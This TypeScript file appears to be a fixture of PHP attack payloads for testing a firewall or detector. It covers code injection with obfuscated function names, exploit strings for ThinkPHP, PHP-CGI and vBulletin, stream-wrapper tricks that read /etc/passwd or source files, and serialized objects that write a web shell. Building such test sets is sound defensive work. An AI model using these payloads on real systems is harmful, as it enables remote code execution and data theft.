// PHP: code, wrappers, objects. Sources: the manual; published advisories of ThinkPHP, PHP-CGI, vBulletin; phpggc's shapes.
import { deflateRawSync, gzipSync } from "node:zlib"
import type { Family } from "../contract.ts"

const OBJECT = 'O:8:"Exporter":2:{s:4:"file";s:5:"x.php";s:4:"data";s:18:"<?=`$_GET[0]`;?>  ";}'

export const PHP: readonly Family[] = [
    {
        name: "php code",
        rows: [
            ["form", "<?php system($_GET['c']); ?>", "a page"],
            ["form", "<?=`id`?>", "a short page"],
            ["query", "';system('id');//", "behind a string"],
            ["query", "${@print(md5(31337))}", "within a string of two quotes"],
            ["query", "{${phpinfo()}}", "within a string of two quotes"],
            ["query", "'.phpinfo().'", "joined to a string"],
            ["form", 'assert("phpinfo()")', "an assertion"],
            ["form", ";$f='sys'.'tem';$f('id');", "a name in pieces"],
            ["query string", "q=(~%8C%86%8C%8B%9A%92)(~%96%9B);", "names by inverted bytes"],
            [
                "form",
                "$_=[];$_=@\"$_\";$_=$_['!'=='@'];$___=$_;$__=$_;$__++;$__++;$___.=$__;$_=$$___;$_[_]($_[__]);",
                "signs alone",
            ],
            ["form", "array_map('assert',$_POST);", "a function by name"],
            ["form", "create_function('','}system(\"id\");//')", "closes a body"],
            ["form", "call_user_func_array('system',['id'])", "a function by name"],
            ["form", "preg_replace('/.*/e','system(\"id\")','')", "a pattern that evaluates"],
            ["query string", "-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "options of the program"],
            ["query string", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "a soft hyphen"],
            [
                "query string",
                "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                "ThinkPHP 5",
            ],
            [
                "form string",
                "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id",
                "ThinkPHP 5: a constructor",
            ],
            ["form string", "widgetConfig[code]=echo%20shell_exec('id');exit;", "vBulletin"],
            ["form", "(new SplFileObject('x.php','w'))->fwrite('<?php ')", "writes a file"],
            ["form", "\"{$_SERVER['DOCUMENT_ROOT']}\".include($_REQUEST['x'])", "includes"],
            ["form", "(\"\\x73ystem\")('id')", "a name by escapes"],
            ["form", "[new ReflectionFunction('system'),'invoke']('id')", "by reflection"],
            ["json", "$x=base64_decode('c3lzdGVt');$x('id')", "a name in base64"],
        ],
    },
    {
        name: "php wrappers",
        rows: [
            ["query", "php://filter/convert.base64-encode/resource=index.php", "a source"],
            ["query", "php://filter/read=string.rot13|convert.iconv.UTF8.CSISO2022KR/resource=php://temp", "a chain"],
            ["query", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==", "a page in an address"],
            ["query", "data:text/plain,<?php system('id')", "a page in an address"],
            ["query", "phar://uploads/a.jpg/x", "an archive"],
            ["query", "zip://uploads/a.jpg#x.php", "an archive"],
            ["query", "expect://id", "a command"],
            ["query", "compress.zlib:///etc/passwd", "unpacks"],
            ["query", "compress.bzip2://phar:///var/www/uploads/a.jpg", "two wrappers"],
            ["query", "glob:///etc/*", "a folder"],
            ["query", "PHP://FiLtEr/zlib.deflate/resource=/etc/passwd", "case"],
            [
                "query string",
                "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=phpinfo()?>+/tmp/x.php",
                "an installer as a file",
            ],
            ["query", "ssh2.exec://a:b@x.example/id", "another machine"],
        ],
    },
    {
        name: "php objects",
        rows: [
            ["cookie", OBJECT, "an object"],
            ["form", `a:2:{i:0;i:1;i:1;${OBJECT}}`, "within a list"],
            ["form", OBJECT.replace("O:8", "O:+8"), "a sign before the length"],
            ["cookie", Buffer.from(OBJECT).toString("base64"), "in base64"],
            ["form", gzipSync(OBJECT).toString("base64"), "packed, in base64"],
            ["form", deflateRawSync(OBJECT).toString("base64"), "deflated, in base64"],
            ["form", 'C:11:"ArrayObject":37:{x:i:0;a:1:{s:1:"a";s:1:"b";};m:a:0:{}}', "a class of its own form"],
            [
                "json",
                'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":1:{s:9:"\u0000*\u0000events";O:15:"Faker\\Generator":0:{}}',
                "two objects of a framework",
            ],
            ["form", 'O:3:"Foo":1:{S:1:"\\61";i:1;}', "an escaped name"],
        ],
    },
]
